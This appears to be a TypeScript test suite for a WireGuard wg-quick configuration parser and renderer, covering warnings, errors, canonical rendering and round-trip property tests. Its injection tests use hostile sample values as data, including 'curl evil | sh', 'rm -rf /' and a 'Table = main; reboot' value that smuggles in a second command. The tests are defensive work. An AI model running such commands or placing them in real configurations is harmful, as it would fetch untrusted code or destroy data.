import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { parseConfText } from '../../../shared/validate';
import { problem, type Problem } from '../../../shared/problems';
import {
  parseHookCommand,
  parseWgQuickConf,
  renderWgQuickConf,
  renderWgSetconf,
  type ParsedConf,
} from '../../../main/wireguard';
import { wgQuickConfig } from './arbitraries';
import {
  CLIENT,
  CLIENT_CONF,
  EMPTY_INTERFACE,
  SERVER,
  SERVER_CANONICAL,
  SERVER_CONF,
  cidrs,
  hooks,
  k,
  text,
  wgOnly,
} from './conf-fixtures';

function parsed(conf: string): ParsedConf {
  const r = parseWgQuickConf(conf);
  if (!r.ok) assert.fail(`expected the file to parse, got ${r.error.message}`);
  return r.value;
}

function failure(conf: string, source?: string) {
  const r = parseWgQuickConf(conf, source);
  if (r.ok) assert.fail('expected a parse error');
  return r.error;
}

/** A file with one [Interface] (with `iface` lines) and one [Peer] (with `peer` lines). */
function file(iface: readonly string[], peer: readonly string[] = []): string {
  return ['[Interface]', ...iface, '', '[Peer]', `PublicKey = ${k(9)}`, ...peer, ''].join('\n');
}

describe('parseWgQuickConf: realistic files', () => {
  test('a server file: comments, repeated keys, hooks', () => {
    const r = parsed(SERVER_CONF);
    assert.deepEqual(r.config, SERVER);
    assert.deepEqual(r.warnings, []);
  });

  test('CRLF line endings read the same as LF', () => {
    assert.deepEqual(parsed(SERVER_CONF.replaceAll('\n', '\r\n')), parsed(SERVER_CONF));
  });

  test('odd spacing, tabs, any key case, whitespace-separated Address and DNS', () => {
    assert.deepEqual(parsed(CLIENT_CONF), { config: CLIENT, warnings: [] });
  });

  test('an empty file is an empty config', () => {
    assert.deepEqual(parsed(''), {
      config: { interface: EMPTY_INTERFACE, peers: [] },
      warnings: [],
    });
  });

  test('"#" starts a comment anywhere, as in wg-quick: a hook is cut there', () => {
    const r = parsed(file(['PostUp = echo "a#b"']));
    assert.deepEqual(r.config.interface.postUp, hooks('echo "a'));
  });

  const cases: [string, readonly string[], readonly string[], Partial<Record<string, unknown>>][] =
    [
      ['hex and "OFF" fwmark', ['FwMark = 0xca6c'], ['PersistentKeepalive = Off'], {}],
      [
        'repeated AllowedIPs accumulate without repeats',
        [],
        ['AllowedIPs = 10.0.0.0/8', 'AllowedIPs = 10.0.0.0/8, ::/0'],
        {},
      ],
      ['SaveConfig in any case', ['SaveConfig = TRUE'], [], {}],
    ];
  for (const [name, iface, peer] of cases) {
    test(name, () => assert.deepEqual(parsed(file(iface, peer)).warnings, []));
  }

  test('values those cases produce', () => {
    const a = parsed(file(['FwMark = 0xca6c', 'FwMark = off'], ['PersistentKeepalive = Off']));
    assert.equal(a.config.interface.fwMark, 0);
    assert.equal(a.config.peers[0]?.persistentKeepalive, 0);
    const b = parsed(file([], ['AllowedIPs = 10.0.0.0/8', 'AllowedIPs = 10.0.0.0/8, ::/0']));
    assert.deepEqual(b.config.peers[0]?.allowedIps, cidrs('10.0.0.0/8', '::/0'));
    assert.equal(parsed(file(['SaveConfig = TRUE'])).config.interface.saveConfig, true);
    assert.equal(parsed(file(['FwMark = 0xca6c'])).config.interface.fwMark, 0xca6c);
  });
});

describe('parseWgQuickConf: warnings, never silent drops', () => {
  // Each warning in English for the CLI, and as a code for the window (issue 15, point 4).
  const cases: [string, string, [number, RegExp, Problem][]][] = [
    [
      'unknown key in [Interface]',
      file(['Jc = 4']),
      [
        [
          2,
          /unknown key "Jc" in \[Interface\]/,
          problem('conf_unknown_key', { key: 'Jc', section: 'Interface' }),
        ],
      ],
    ],
    [
      'unknown key in [Peer]',
      file([], ['Address = 10.0.0.2/32']),
      [
        [
          5,
          /"Address" in \[Peer\]/,
          problem('conf_unknown_key', { key: 'Address', section: 'Peer' }),
        ],
      ],
    ],
    [
      'unknown section, with its keys',
      `${file([])}[Socks5]\nPort = 1080\nUser = x\n`,
      [
        [
          5,
          /unknown section "\[Socks5\]"/,
          problem('conf_unknown_section', { section: '[Socks5]' }),
        ],
      ],
    ],
    [
      'a repeated single key',
      file(['ListenPort = 1', 'ListenPort = 2']),
      [[3, /set on line 2/, problem('conf_key_again', { key: 'ListenPort', before: 2 })]],
    ],
    [
      'a second [Interface]',
      `${file(['MTU = 1400'])}[Interface]\nListenPort = 7\n`,
      [[6, /another \[Interface\].*line 1/, problem('conf_interface_again', { first: 1 })]],
    ],
    [
      'an empty hook',
      file(['PostUp =']),
      [[2, /empty PostUp/, problem('conf_hook_empty', { key: 'PostUp' })]],
    ],
    [
      'a Name comment too long',
      file([], [`# Name = ${'x'.repeat(300)}`]),
      [[5, /Name comment ignored/, problem('conf_name_bad', {})]],
    ],
    [
      'two Name comments',
      file([], ['# Name = a', '# name=b']),
      [[6, /second # Name/, problem('conf_name_twice', {})]],
    ],
  ];
  for (const [name, conf, expected] of cases) {
    test(name, () => {
      const { warnings } = parsed(conf);
      assert.equal(warnings.length, expected.length, JSON.stringify(warnings));
      expected.forEach(([line, message, coded], i) => {
        assert.equal(warnings[i]?.line, line);
        assert.match(warnings[i]?.message ?? '', message);
        assert.deepEqual(warnings[i]?.problem, coded);
      });
    });
  }

  test('the values of repeated keys: the last wins, as in wg', () => {
    const r = parsed(file(['ListenPort = 1', 'ListenPort = 2'], ['# Name = a', '# name=b']));
    assert.equal(r.config.interface.listenPort, 2);
    assert.equal(r.config.peers[0]?.name, 'b');
  });
});

describe('parseWgQuickConf: errors name the line and the key', () => {
  const short = k(7).slice(0, 43);
  const cases: [string, string, string, RegExp][] = [
    ['a short key', file([`PrivateKey = ${short}`]), 'line 2: PrivateKey', /44 characters/],
    [
      'a non-canonical key',
      file([], [`PresharedKey = ${k(7).slice(0, 42)}B=`]),
      'line 5: PresharedKey',
      /canonical/,
    ],
    [
      'host bits in AllowedIPs',
      file([], ['AllowedIPs = 10.0.0.0/8, 10.1.2.3/16']),
      'line 5: AllowedIPs',
      /host bits.*10\.1\.0\.0\/16/,
    ],
    [
      'an empty AllowedIPs item (wg refuses it too)',
      file([], ['AllowedIPs = 10.0.0.0/8,']),
      'line 5: AllowedIPs',
      /empty/,
    ],
    ['a bad endpoint', file([], ['Endpoint = 10.0.0.1']), 'line 5: Endpoint', /host:port/],
    [
      'keepalive out of range',
      file([], ['PersistentKeepalive = 70000']),
      'line 5: PersistentKeepalive',
      /0 to 65535/,
    ],
    [
      'ListenPort 0 (wg would pick one; the validator wants 1-65535)',
      file(['ListenPort = 0']),
      'line 2: ListenPort',
      /1 to 65535/,
    ],
    ['a tiny MTU', file(['MTU = 500']), 'line 2: MTU', /576 to 9000/],
    [
      'a table that is neither off, auto, a number nor a name',
      file(['Table = main; reboot']),
      'line 2: Table',
      /off.*auto/,
    ],
    ['SaveConfig = yes', file(['SaveConfig = yes']), 'line 2: SaveConfig', /true or false/],
    ['a bad Address', file(['Address = 10.0.0.300/24']), 'line 2: Address', /CIDR/],
    ['a bad DNS entry', file(['DNS = 1.1.1.1, -bad-']), 'line 2: DNS', /neither/],
    [
      '17 DNS entries over two lines',
      file([`DNS = ${ips(1, 9)}`, `DNS = ${ips(9, 18)}`]),
      'line 3: DNS',
      /16/,
    ],
    ['a control character in a hook', file(['PostUp = echo \u0007']), 'line 2: PostUp', /control/],
    ['a [Peer] without PublicKey', '[Peer]\nAllowedIPs = ::/0\n', 'line 1: [Peer]', /no PublicKey/],
    [
      'the same peer twice',
      `${file([])}[Peer]\nPublicKey = ${k(9)}\n`,
      'line 6: PublicKey',
      /line 4/,
    ],
    ['a key before any section', `ListenPort = 1\n${file([])}`, 'line 1: ListenPort', /before any/],
    ['a line that is not Key = Value', file(['Address']), 'line 2', /Key = Value/],
    ['a broken section header', '[Interface\n', 'line 1', /section header/],
    ['a NUL character', file(['MTU = 14\u000000']), 'line 2', /NUL/],
    [
      'a lone CR inside a value',
      file(['PostUp = a\rPostDown = b']),
      'line 2: PostUp',
      /single line/,
    ],
  ];
  for (const [name, conf, field, message] of cases) {
    test(name, () => {
      const e = failure(conf);
      assert.equal(e.kind, 'InvalidInput');
      assert.equal(e.field, field);
      assert.match(e.message, message);
    });
  }

  function ips(from: number, to: number): string {
    return Array.from({ length: to - from }, (_, i) => `10.0.0.${from + i}`).join(', ');
  }

  test('a file over 16 Mi characters is refused before parsing', () => {
    const e = failure(' '.repeat(16 * 1024 * 1024 + 1));
    assert.equal(e.field, 'conf');
  });

  test('the source is named in the message, not in the field', () => {
    const e = failure(file(['MTU = 1']), 'wg0.conf');
    assert.equal(e.field, 'line 2: MTU');
    assert.match(e.message, /^wg0\.conf: line 2: MTU: /);
  });

  test('a bad secret is not repeated in the error', () => {
    const secret = k(8).slice(0, 43);
    const e = failure(file([`PrivateKey = ${secret}`]));
    assert.ok(!e.message.includes(secret));
  });
});

describe('injection: values cannot add lines to a file', () => {
  test('a name or hook with a line break cannot be made', () => {
    assert.ok(!parseConfText('laptop\nPostUp = curl evil | sh').ok);
    assert.ok(!parseConfText('laptop\r[Interface]').ok);
    assert.ok(!parseHookCommand('true\nPostDown = rm -rf /').ok);
  });

  test('a hook with "#" cannot be made: wg-quick would run a shorter command', () => {
    const r = parseHookCommand('echo hi # not a comment to us');
    assert.ok(!r.ok);
    assert.match(r.error.message, /#/);
  });

  test('a name comment holding key text stays a name', () => {
    const r = parsed(file([], ['# Name = x = y PostUp = z [Interface]']));
    assert.equal(r.config.peers[0]?.name, text('x = y PostUp = z [Interface]'));
    assert.deepEqual(r.config.interface.postUp, []);
  });

  test('a PostUp inside [Peer] is not a hook (wg-quick reads hooks in [Interface] only)', () => {
    const r = parsed(file([], ['PostUp = touch /tmp/pwned']));
    assert.deepEqual(r.config.interface.postUp, []);
    assert.equal(r.warnings.length, 1);
  });
});

describe('renderWgQuickConf / renderWgSetconf', () => {
  test('canonical text: fixed key order, lists joined, comments dropped except names', () => {
    assert.equal(renderWgQuickConf(SERVER), SERVER_CANONICAL);
    assert.equal(renderWgQuickConf(parsed(SERVER_CONF).config), SERVER_CANONICAL);
  });

  test('setconf text has only what wg understands', () => {
    const out = renderWgSetconf(SERVER);
    assert.doesNotMatch(
      out,
      /^(Address|DNS|MTU|Table|PreUp|PostUp|PreDown|PostDown|SaveConfig)\b/im,
    );
    assert.deepEqual(parsed(out).config, wgOnly(SERVER));
  });

  test('CRLF on request', () => {
    const out = renderWgQuickConf(CLIENT, { newline: '\r\n' });
    assert.equal(out.replaceAll('\r\n', '\n'), renderWgQuickConf(CLIENT));
    assert.ok(!/[^\r]\n/.test(out));
  });
});

describe('round trip (property)', () => {
  test('any valid config → render → parse gives it back, with no warnings', () => {
    fc.assert(
      fc.property(wgQuickConfig, fc.constantFrom('\n' as const, '\r\n' as const), (c, nl) => {
        const r = parseWgQuickConf(renderWgQuickConf(c, { newline: nl }));
        assert.ok(r.ok, r.ok ? '' : r.error.message);
        assert.deepEqual(r.value, { config: c, warnings: [] });
      }),
      { numRuns: 500 },
    );
  });

  test('setconf text parses to the config without wg-quick fields', () => {
    fc.assert(
      fc.property(wgQuickConfig, (c) => {
        assert.deepEqual(parseWgQuickConf(renderWgSetconf(c)), {
          ok: true,
          value: { config: wgOnly(c), warnings: [] },
        });
      }),
      { numRuns: 200 },
    );
  });

  // Section soup: known and unknown keys, headers, comments and junk in any
  // order, with peers common enough that many files parse.
  const keyName = fc.constantFrom(
    'PrivateKey',
    'publickey',
    'AllowedIPs',
    'Address',
    'DNS',
    'PostUp',
    'MTU',
    'Endpoint',
    'FwMark',
    'Table',
    'PersistentKeepalive',
    'SaveConfig',
    'ListenPort',
    'Bogus',
    '',
  );
  const value = fc.oneof(
    fc.constantFrom(
      k(1),
      k(2),
      '10.0.0.0/8',
      '10.0.0.1/8, ::/0',
      'off',
      '0x10',
      '1420',
      'true',
      'auto',
      'a.example:1',
      '',
    ),
    fc.string({ maxLength: 20 }),
  );
  const validEntry = fc.constantFrom(
    ...[
      ['AllowedIPs', '10.0.0.0/8, fd00::/8'],
      ['allowedips', '0.0.0.0/0'],
      ['Endpoint', 'vpn.example.com:51820'],
      ['PersistentKeepalive', 'OFF'],
      ['PresharedKey', k(5)],
      ['PrivateKey', k(6)],
      ['ListenPort', '51820'],
      ['FwMark', '0xca6c'],
      ['Address', '10.0.0.1/24 fd00::1/64'],
      ['DNS', '1.1.1.1, corp.example'],
      ['MTU', '1420'],
      ['Table', 'auto'],
      ['PostUp', 'echo up # comment'],
      ['SaveConfig', 'false'],
      ['Jc', '4'],
    ].map(([kk, v]) => `${kk} = ${v}`),
  );
  const entry = fc.oneof(
    { weight: 6, arbitrary: validEntry },
    fc
      .tuple(keyName, value, fc.constantFrom(' = ', '=', ' \t= '))
      .map(([kk, v, eq]) => `${kk}${eq}${v}`),
  );
  const junk = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('', '# Name = n', '   ', '#', '[Other]', '[', 'x') },
    { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
  );
  const body = fc.array(fc.oneof({ weight: 4, arbitrary: entry }, junk), { maxLength: 6 });
  const section = fc.oneof(
    { weight: 2, arbitrary: body.map((b) => ['[Interface]', ...b]) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(
          fc.constantFrom('[Peer]', '[peer]'),
          fc.constantFrom(...[1, 2, 3, 4, 5, 6, 7, 8].map(k)),
          body,
        )
        .map(([h, key, b]) => [h, `PublicKey = ${key}`, ...b]),
    },
    { weight: 1, arbitrary: body },
  );
  const soup = fc.array(section, { maxLength: 6 }).map((s) => s.flat());

  test('never throws; whatever parses re-renders to the same config', () => {
    fc.assert(
      fc.property(soup, fc.constantFrom('\n', '\r\n'), (lines, nl) => {
        const r = parseWgQuickConf(lines.join(nl));
        if (!r.ok) {
          assert.equal(r.error.kind, 'InvalidInput');
          assert.match(r.error.field ?? '', /^(line \d+|conf)/);
          return;
        }
        const again = parseWgQuickConf(renderWgQuickConf(r.value.config));
        assert.deepEqual(again, { ok: true, value: { config: r.value.config, warnings: [] } });
      }),
      { numRuns: 2000 },
    );
  });
});
